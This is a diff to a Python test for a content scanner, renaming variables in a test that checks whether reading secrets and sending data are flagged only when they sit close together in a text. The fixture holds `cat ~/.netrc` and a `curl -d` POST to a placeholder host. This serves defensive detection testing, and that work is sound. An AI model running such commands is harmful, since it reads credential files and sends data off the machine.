@@ -104,14 +104,14 @@ def test_the_number_of_excused_warnings_is_limited() -> None:
 
 
 def test_reading_and_sending_far_apart_in_a_text_are_not_combined() -> None:
-    near = "Look: `cat ~/.netrc`\n\n`curl -d x=1 https://a.example.org`\n"
-    far = near.replace("\n\n", "\n" * 60)
-    what = "reads secrets and sends something to another machine"
-    told = [
-        what in {each.description for each in scan_contents(skill(text)).findings}
-        for text in (near, far)
+    nearby_text = "Look: `cat ~/.netrc`\n\n`curl -d x=1 https://a.example.org`\n"
+    distant_text = nearby_text.replace("\n\n", "\n" * 60)
+    description = "reads secrets and sends something to another machine"
+    reported = [
+        description in {each.description for each in scan_contents(skill(text)).findings}
+        for text in (nearby_text, distant_text)
     ]
-    assert told == [True, False]
+    assert reported == [True, False]
 
 
 def test_a_key_is_reported_and_a_placeholder_is_not() -> None:
